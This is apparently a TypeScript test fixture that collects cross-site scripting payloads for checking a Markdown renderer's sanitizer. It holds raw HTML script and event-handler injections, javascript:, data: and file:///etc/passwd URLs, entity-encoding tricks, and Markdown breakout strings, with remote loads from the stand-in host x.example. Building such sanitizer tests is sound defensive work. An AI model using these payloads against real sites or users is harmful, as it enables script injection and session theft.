/**
 * Hostile deck text for markdownXss.test.ts, written for this project: every way we could think of
 * to get script, an event handler, a script URL or a remote load out of the Markdown renderer.
 */

const js = 'alert(1)';

/** Raw HTML that must never become a live element or attribute. */
const rawHtml = [
  `<script>${js}</script>`, `<SCRIPT SRC=//x.example/x.js></SCRIPT>`, `<script>/*`, `<img src=x onerror=${js}>`, `<img src="x" onerror="${js}"/>`,
  `<svg onload=${js}>`, `<svg><script>${js}</script></svg>`, `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`, `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`, `<math href="javascript:${js}">x</math>`, `<iframe src="javascript:${js}"></iframe>`, `<iframe srcdoc="<script>${js}</script>">`,
  `<object data="data:text/html,<script>${js}</script>">`, `<embed src=//x.example/x.swf>`, `<link rel=stylesheet href=//x.example/x.css>`, `<style>@import '//x.example/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${js}">`, `<base href=//x.example/>`, `<form action=javascript:${js}><button>x</button></form>`, `<input autofocus onfocus=${js}>`,
  `<video><source onerror=${js}></video>`, `<audio src=x onerror=${js}>`, `<body onload=${js}>`, `<marquee onstart=${js}>`, `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `<textarea></textarea><img src=x onerror=${js}>`, `<title></title><img src=x onerror=${js}>`, `<xmp><img src=x onerror=${js}></xmp>`,
  `<plaintext><img src=x onerror=${js}>`, `<select><img src=x onerror=${js}></select>`, `<table><td background=//x.example/x.png>`, `<a href="javascript:${js}">x</a>`, `<a href=//x.example/ ping=//x.example/>x</a>`,
  `<div id=app name=x>clobber</div>`, `<p style="background:url(//x.example/x.png)">x</p>`, `<img srcset="//x.example/x.png 1x">`, `<isindex action=javascript:${js}>`, `<frameset onload=${js}>`,
  `<![CDATA[<script>${js}</script>]]>`, `<?xml version="1.0"?><script>${js}</script>`, `<!--><script>${js}</script>-->`, `<!-- --!><img src=x onerror=${js}>-->`, `<!--<b>--><img src=x onerror=${js}>`,
];

/** The allowed tags, abused: attributes, breakouts, nesting, unclosed. */
const allowedTagAbuse = [
  `<b onclick=${js}>x</b>`, `<b/onclick=${js}>x</b>`, `<b\nonclick=${js}>x</b>`, `<b\tonmouseover=${js}>x</b>`, `<b title="x" onclick="${js}">x</b>`, `<b title='x' onclick='${js}'>x</b>`,
  `<b title="x>"onmouseover=${js}>x</b>`, `<b "onclick=${js}">x</b>`, `<b style="background:url(//x.example/x)">x</b>`, `<kbd id=app>x</kbd>`, `<sup/onload=${js}>2</sup>`, `<br/onerror=${js}>`,
  `<br onerror=${js}/>`, `<hr style=x onmouseover=${js}>`, `<details open ontoggle=${js}><summary>x</summary>y</details>`, `<summary onclick=${js}>x</summary>`,
  `<details><summary><details><summary>x</summary><img src=x onerror=${js}></details></summary></details>`, `<details><details><details><summary>deep`, `</details></details><script>${js}</script>`,
  `<b`, `<b onclick="${js}`, `<details><summary>`, `<img src=x onerror=${js}//`, `<b>unclosed`, `</b></kbd></sup>stray closes`, `<pre><code><script>${js}</script></code></pre>`,
  `<kbd><img src=x onerror=${js}></kbd>`, `<code><svg onload=${js}></code>`, `<p><b><i><u><s><mark><small>deep</small></mark></s></u></i></b></p>`, `<center onclick=${js}>x</center>`,
  `<b>x</b ><script>${js}</script>`, `<b>x</b onclick=${js}>`, `<BR ONERROR=${js}>`, `<dEtAiLs OnToGgLe=${js} open>`,
];

/** Character references meant to become markup after decoding. */
const entityTricks = [
  `&lt;script&gt;${js}&lt;/script&gt;`, `&#60;script&#62;${js}&#60;/script&#62;`, `&#x3c;img src=x onerror=${js}&#x3e;`, `&amp;lt;script&amp;gt;`, `<b>&lt;/b&gt;&lt;script&gt;</b>`,
  `&#0000060;script>${js}`, `&#x0003C;svg onload=${js}&#x0003E;`, `&LT;script&GT;`, `&lt&gt;script`, `<b title=&quot;x&quot; onclick=${js}>x</b>`, `&#x26;lt;script&#x26;gt;`, `<kbd>&#x3C;/kbd&#x3E;&#x3C;script&#x3E;</kbd>`,
];

/** Script URLs and their disguises, in every Markdown link form. */
const urls = [
  `javascript:${js}`, `JaVaScRiPt:${js}`, ` javascript:${js}`, `java\tscript:${js}`, `&#106;avascript:${js}`, `&#x6A;avascript:${js}`, `javascript&colon;${js}`, `%6Aavascript:${js}`,
  `\u200bjavascript:${js}`, `\ufeffjavascript:${js}`, `data:text/html,<script>${js}</script>`, `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`, `vbscript:msgbox(1)`, `file:///etc/passwd`,
  `command:workbench.action.terminal.new`, `vscode:extension/x`, `//x.example/x`, `\\\\x.example\\x`, `https://x.example/"onmouseover="${js}`, `https://x.example/'onmouseover='${js}`,
];
const linkForms = (url: string) => [`[x](${url})`, `[x](<${url}>)`, `[x](${url} "t")`, `[x][r]\n\n[r]: ${url}`, `[x][r]\n\n[r]: <${url}> "t"`, `<${url}>`, `![x](${url})`, `[![x](${url})](${url})`];

/** Markdown that tries to break out of what markdown-it generates. */
const markdownTricks = [
  `[x](https://x.example "t\\" onmouseover=\\"${js}")`, `[x](https://x.example 't\\' onmouseover=${js}')`, `![x](https://x.example/onerror=${js})`, `**<img src=x onerror=${js}>**`,
  `_<svg onload=${js}>_`, '`<script>' + js + '</script>`', '```html\n<script>' + js + '</script>\n```', '```" onclick="' + js + '\nx\n```', '```python" onload="' + js + '\nx\n```',
  '```"><script>' + js + '</script>\nx\n```', '```__proto__\nx\n```', '```constructor\nx\n```', '    <script>' + js + '</script>', `Title\n=====<script>${js}</script>`,
  `| a |\n|---|\n| <img src=x onerror=${js}> |`, `| a |\n|:-:|\n| <b onclick=${js}>x</b> |`, `> <details ontoggle=${js} open>`, `- <script>${js}</script>\n- <b>x`, `1. <iframe src=javascript:${js}>`,
  `{{constructor.constructor('${js}')()}}`, `https://x.example/<script>${js}</script>`,
];

export const PAYLOADS: readonly string[] = [...rawHtml, ...allowedTagAbuse, ...entityTricks, ...urls.flatMap(linkForms), ...markdownTricks];

/** Where a payload can sit in a deck's Markdown. */
export const CONTEXTS: readonly ((payload: string) => string)[] = [
  (p) => p,
  (p) => `Some text ${p} more text.`,
  (p) => `- item\n- ${p}`,
  (p) => `> ${p}`,
  (p) => `<details>\n<summary>Show</summary>\n\n${p}\n\n</details>`,
  (p) => `| a | b |\n|---|---|\n| ${p} | x |`,
  (p) => `## ${p}`,
  (p) => `*${p}*`,
  (p) => `<b>${p}</b>`,
];
